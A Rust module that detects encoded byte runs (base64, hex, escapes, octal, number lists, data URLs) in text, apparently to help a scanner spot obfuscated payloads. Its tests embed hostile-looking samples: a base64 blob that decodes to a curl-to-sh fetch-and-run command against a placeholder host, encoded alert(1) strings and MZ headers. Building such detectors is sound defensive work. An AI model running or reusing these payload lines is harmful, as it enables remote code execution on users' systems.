//! Runs of characters that are code for bytes, found in one pass.

use super::written;
use crate::codec::sextet;

/// Fewest characters, or elements, of a run, and whether `chr(…)` is looked for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Least {
    pub base64: usize,
    pub base32: usize,
    pub hex: usize,
    pub numbers: usize,
    pub codes: bool,
}

/// Words are seldom longer.
const WORDS: usize = 40;
const BASE64_IN_A_LINE: usize = 20;
const BASE64_IN_QUOTES: usize = 8;
const ESCAPES: usize = 12;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Writing {
    Base64,
    Base32,
    Base85,
    Hex,
    /// `\x41`.
    Escapes,
    /// `\101`.
    Octals,
    /// `0x41, 0x42` or `65, 66`.
    Numbers,
    /// The payload of a `data:` address without base64.
    Percent,
    /// `chr(65).chr(66)`.
    Codes,
    /// `\u0041`, `%41`.
    Units,
    /// `&#65;`.
    References,
    /// Lines of a hexadecimal viewer.
    Dump,
}

impl Writing {
    pub fn name(self) -> &'static str {
        match self {
            Writing::Base64 => "base64",
            Writing::Base32 => "base32",
            Writing::Base85 => "base85",
            Writing::Hex => "hex",
            Writing::Escapes => "escapes",
            Writing::Octals => "octal escapes",
            Writing::Numbers => "numbers",
            Writing::Percent => "data url",
            Writing::Codes => "character codes",
            Writing::Units => "unicode escapes",
            Writing::References => "character references",
            Writing::Dump => "hex dump",
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Run {
    pub writing: Writing,
    pub start: usize,
    pub end: usize,
}

pub(super) struct Runs<'t> {
    text: &'t [u8],
    least: Least,
    at: usize,
}

impl<'t> Runs<'t> {
    pub fn new(text: &'t [u8], least: Least) -> Self {
        Runs { text, least, at: 0 }
    }

    fn run(&mut self, writing: Writing, start: usize, end: usize) -> Option<Run> {
        self.at = end;
        Some(Run { writing, start, end })
    }
}

impl Iterator for Runs<'_> {
    type Item = Run;

    fn next(&mut self) -> Option<Run> {
        while self.at < self.text.len() {
            let (text, at) = (self.text, self.at);
            let byte = text[at];
            let next = text.get(at + 1).copied().unwrap_or(0);
            match byte {
                b'\\' if next.eq_ignore_ascii_case(&b'x') => {
                    let end = escapes(text, at);
                    if end - at >= 4 * ESCAPES {
                        return self.run(Writing::Escapes, at, end);
                    }
                    self.at = end.max(at + 2);
                    continue;
                }
                b'\\' if octal(&text[at..]).is_some() => {
                    let end = octal_run(text, at);
                    if end - at >= 4 * ESCAPES {
                        return self.run(Writing::Octals, at, end);
                    }
                    self.at = end;
                    continue;
                }
                b'\\' | b'%' if next == b'u' || byte == b'%' && next.is_ascii_hexdigit() => {
                    if let Some((_, length)) = written::units(&text[at..]) {
                        return self.run(Writing::Units, at, at + length);
                    }
                }
                b'&' if next == b'#' => {
                    if let Some((_, length)) = written::references(&text[at..]) {
                        return self.run(Writing::References, at, at + length);
                    }
                }
                b'c' | b'C' | b'[' if self.least.codes => {
                    if let Some((_, length)) = written::codes(&text[at..]) {
                        return self.run(Writing::Codes, at, at + length);
                    }
                }
                b'd' if text[at..].starts_with(b"data:") => {
                    if let Some((start, end)) = data_url(text, at) {
                        return self.run(Writing::Percent, start, end);
                    }
                    self.at += 5;
                    continue;
                }
                _ => {}
            }
            if sextet(byte).is_none() {
                self.at += 1;
                continue;
            }
            if byte.is_ascii_digit() {
                let (end, count) = number_list(text, at);
                if count >= self.least.numbers {
                    return self.run(Writing::Numbers, at, end);
                }
            }
            let (end, digits, hex) = word(text, at);
            if let Some(writing) = self.least.writing(&text[at..end], digits, hex) {
                return self.run(writing, at, end);
            }
            self.at = end;
        }
        None
    }
}

impl Least {
    /// What a word of so many digits may be.
    fn writing(&self, word: &[u8], digits: usize, hex: bool) -> Option<Writing> {
        if hex && digits >= self.hex && digits.is_multiple_of(2) {
            return Some(Writing::Hex);
        }
        let in_base32 = digits >= self.base32 && word.iter().all(is_base32);
        // Where nobody speaks of it, base64 comes first: its zeros are letters of both.
        if in_base32 && self.base32 < self.base64 {
            return Some(Writing::Base32);
        }
        if digits >= self.base64 && (mixed(word) || in_equal_lines(word) || self.base64 < WORDS && varied(word)) {
            return Some(Writing::Base64);
        }
        in_base32.then_some(Writing::Base32)
    }
}

/// Of a run: its upper letters, digits, padding and line ends.
fn is_base32(byte: &u8) -> bool {
    matches!(byte, b'A'..=b'Z' | b'2'..=b'7' | b'=') || byte.is_ascii_whitespace() || is_quote(*byte)
}

fn escapes(text: &[u8], mut at: usize) -> usize {
    while let Some([b'\\', b'x' | b'X', a, b]) = text.get(at..at + 4) {
        if !a.is_ascii_hexdigit() || !b.is_ascii_hexdigit() {
            break;
        }
        at += 4;
    }
    at
}

/// The byte that a backslash and three octal digits are (a zero may stand before them), and its length.
fn octal(text: &[u8]) -> Option<(u8, usize)> {
    let digits = text.strip_prefix(b"\\")?;
    let zero = usize::from(digits.first() == Some(&b'0') && digits.get(3).is_some_and(|b| matches!(b, b'0'..=b'7')));
    let digits = digits.get(zero..zero + 3)?;
    if !matches!(digits[0], b'0'..=b'3') || !digits.iter().all(|b| matches!(b, b'0'..=b'7')) {
        return None;
    }
    Some((digits.iter().fold(0, |value, digit| value << 3 | (digit - b'0')), 4 + zero))
}

fn octal_run(text: &[u8], mut at: usize) -> usize {
    while let Some((_, len)) = octal(&text[at..]) {
        at += len;
    }
    at
}

pub(super) fn octals(mut text: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    while let Some((byte, len)) = octal(text) {
        out.push(byte);
        text = &text[len..];
    }
    text.is_empty().then_some(out)
}

fn is_quote(byte: u8) -> bool {
    matches!(byte, b'"' | b'\'' | b'`')
}

/// Where a text in quotes that ends here goes on: `"…" + "…"`, `"…", "…"`.
fn next_piece(text: &[u8], end: usize) -> Option<usize> {
    if !text.get(end).copied().is_some_and(is_quote) {
        return None;
    }
    let gap = text[end + 1..].iter().take(60);
    let gap =
        gap.take_while(|byte| byte.is_ascii_whitespace() || matches!(byte, b'+' | b'.' | b',' | b'&' | b'\\')).count();
    let quote = end + 1 + gap;
    text.get(quote).copied().is_some_and(is_quote).then_some(quote + 1)
}

/// Without the quotes between its pieces and what joins them.
pub(super) fn joined(text: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    if !text.iter().copied().any(is_quote) {
        return text.into();
    }
    let mut out = Vec::with_capacity(text.len());
    let mut at = 0;
    while at < text.len() {
        match next_piece(text, at) {
            Some(next) => at = next,
            None => {
                out.push(text[at]);
                at += 1;
            }
        }
    }
    out.into()
}

/// A run of base64's characters, over line breaks where the lines are long. Where it ends, how many digits it has and
/// whether all are hexadecimal ones.
fn word(text: &[u8], start: usize) -> (usize, usize, bool) {
    let (mut at, mut digits, mut hex) = (start, 0, true);
    loop {
        let line = at;
        while let Some(byte) = text.get(at).filter(|b| sextet(**b).is_some()) {
            hex &= byte.is_ascii_hexdigit();
            at += 1;
        }
        digits += at - line;
        while text.get(at) == Some(&b'=') && digits > 0 {
            at += 1;
        }
        if at - line >= BASE64_IN_QUOTES
            && let Some(next) =
                next_piece(text, at).filter(|next| text.get(*next).is_some_and(|b| sextet(*b).is_some()))
        {
            at = next;
            continue;
        }
        if at - line < BASE64_IN_A_LINE {
            return (at.max(start + 1), digits, hex);
        }
        // Over the break, with an indent or a backslash before it.
        let mut next = at;
        while matches!(text.get(next), Some(b'\r' | b'\n' | b' ' | b'\t')) && next - at < 40 {
            next += 1;
        }
        let broken = text[at..next].contains(&b'\n');
        if !broken || text.get(next).is_none_or(|b| sextet(*b).is_none()) {
            return (at, digits, hex);
        }
        at = next;
    }
}

/// What stands in a text that decodes something needs only one of each.
fn varied(run: &[u8]) -> bool {
    let any = |such: fn(&u8) -> bool| run.iter().any(such);
    run.len() >= WORDS && any(u8::is_ascii_uppercase) && any(u8::is_ascii_lowercase) && any(u8::is_ascii_digit)
}

/// Base64 of anything has upper and lower case and digits; words, paths and names seldom have all.
fn mixed(run: &[u8]) -> bool {
    let upper = run.iter().filter(|b| b.is_ascii_uppercase()).count();
    let lower = run.iter().filter(|b| b.is_ascii_lowercase()).count();
    let slashes = run.iter().filter(|b| matches!(b, b'/' | b'-' | b'_')).count();
    upper * 12 > run.len() && lower * 16 > run.len() && slashes * 8 < run.len().max(64)
}

/// Several lines of one length that a tool breaks at: base64 of what is mostly zeros is not mixed.
fn in_equal_lines(run: &[u8]) -> bool {
    let mut lines = run.split(|byte| *byte == b'\n').map(|line| line.trim_ascii().len());
    let Some(first) = lines.next().filter(|first| first.is_multiple_of(4) && (60..=1024).contains(first)) else {
        return false;
    };
    let rest: Vec<usize> = lines.collect();
    rest.len() >= 3 && rest[..rest.len() - 1].iter().all(|len| *len == first)
}

fn number_list(text: &[u8], start: usize) -> (usize, usize) {
    let (mut at, mut count, mut end) = (start, 0, start);
    while let Some(len) = number(&text[at..]) {
        at += len;
        end = at;
        count += 1;
        let gap =
            text[at..].iter().take(40).take_while(|b| matches!(b, b',' | b' ' | b'\n' | b'\r' | b'\t' | b';')).count();
        if gap == 0 || !text[at..at + gap].iter().any(|b| matches!(b, b',' | b';')) {
            break;
        }
        at += gap;
    }
    (end, count)
}

/// Characters of a number from 0 to 255.
fn number(text: &[u8]) -> Option<usize> {
    if let Some(hex) = text.strip_prefix(b"0x").or_else(|| text.strip_prefix(b"0X")) {
        let digits = hex.iter().take(3).take_while(|b| b.is_ascii_hexdigit()).count();
        return matches!(digits, 1 | 2).then_some(2 + digits);
    }
    let digits = text.iter().take(4).take_while(|b| b.is_ascii_digit()).count();
    let value: u16 = std::str::from_utf8(&text[..digits]).ok()?.parse().ok()?;
    (digits <= 3 && value < 256).then_some(digits)
}

pub(super) fn numbers(text: &[u8]) -> Option<Vec<u8>> {
    text.split(|b| matches!(b, b',' | b';'))
        .map(|one| {
            let one = std::str::from_utf8(one.trim_ascii()).ok()?;
            match one.strip_prefix("0x").or_else(|| one.strip_prefix("0X")) {
                Some(hex) => u8::from_str_radix(hex, 16).ok(),
                None => one.parse().ok(),
            }
        })
        .collect()
}

/// `data:text/html,payload`; those in base64 are found as base64.
fn data_url(text: &[u8], at: usize) -> Option<(usize, usize)> {
    let head = &text[at..text.len().min(at + 200)];
    let comma = head.iter().position(|b| *b == b',')?;
    let kind = &head[5..comma];
    if kind.ends_with(b"base64") || kind.iter().any(|b| !(b.is_ascii_alphanumeric() || b"/;=+.-_".contains(b))) {
        return None;
    }
    let start = at + comma + 1;
    let len = text[start..]
        .iter()
        .position(|b| matches!(b, b'"' | b'\'' | b'>' | b'<' | b' ' | b'\n' | b')'))
        .unwrap_or(text.len() - start);
    (len > 0 && kind.contains(&b'/')).then_some((start, start + len))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[(Writing, &str)]) {
        let least = super::super::calls::Calls::of(text.as_bytes()).least();
        let runs: Vec<(Writing, &str)> =
            Runs::new(text.as_bytes(), least).map(|run| (run.writing, &text[run.start..run.end])).collect();
        assert_eq!(runs, expected, "{text}");
    }

    #[test]
    fn finds_runs_of_each_writing() {
        let blob = "IyEvYmluL3NoCmN1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC9hIHwgc2gK";
        check(&format!("echo {blob} | base64 -d"), &[(Writing::Base64, blob)]);
        let two = format!("{blob}\n  {blob}");
        check(&format!("x = \"\"\"{two}\"\"\""), &[(Writing::Base64, &two)]);
        let hex = "4d5a".repeat(20);
        check(&format!("'{hex}'"), &[(Writing::Hex, &hex)]);
        let escapes = "\\x4d".repeat(20);
        check(&format!("printf '{escapes}'"), &[(Writing::Escapes, &escapes)]);
        let pieces = format!("{}\", \n \"{}\" + '{}", &blob[..20], &blob[20..40], &blob[40..]);
        check(&format!("var a = [\"{pieces}'];"), &[(Writing::Base64, &pieces)]);
        assert_eq!(joined(pieces.as_bytes()), blob.as_bytes());
        let octal = "\\115\\0132".repeat(8);
        check(&format!("printf '{octal}'"), &[(Writing::Octals, &octal)]);
        assert_eq!(octals(octal.as_bytes()).unwrap(), b"MZ".repeat(8));
        let list = vec!["0x4d"; 60].join(", ");
        check(&format!("{{ {list} }}"), &[(Writing::Numbers, &list)]);
        check("<a href=\"data:text/html,%3Cscript%3E\">", &[(Writing::Percent, "%3Cscript%3E")]);
        check("base32 -d <<< NBSWY3DPEB3W64TMMQ======", &[(Writing::Base32, "NBSWY3DPEB3W64TMMQ======")]);
        // What is as long as a word counts where something undoes it.
        check("atob('YWxlcnQoMSk7Ly8=')", &[(Writing::Base64, "YWxlcnQoMSk7Ly8=")]);
        check("fromhex('616c657274283129')", &[(Writing::Hex, "616c657274283129")]);
        check("fromCharCode(97,108,101,114,116,40,49,41)", &[(Writing::Numbers, "97,108,101,114,116,40,49,41")]);
    }

    #[test]
    fn leaves_words_alone() {
        check("/usr/lib/x86_64-linux-gnu/some/long/path/to/a/library/file/libsomething", &[]);
        check("ThisIsAVeryLongIdentifier and then some words that follow it 1, 2, 3", &[]);
        check("da39a3ee5e6b4b0d3255bfef95601890afd80709  file", &[]);
        check("\\x41\\x42", &[]);
        check("x = 'YWxlcnQoMSk7Ly8='", &[]);
        check("100% sure &#169; and \\u00e9", &[]);
    }
}
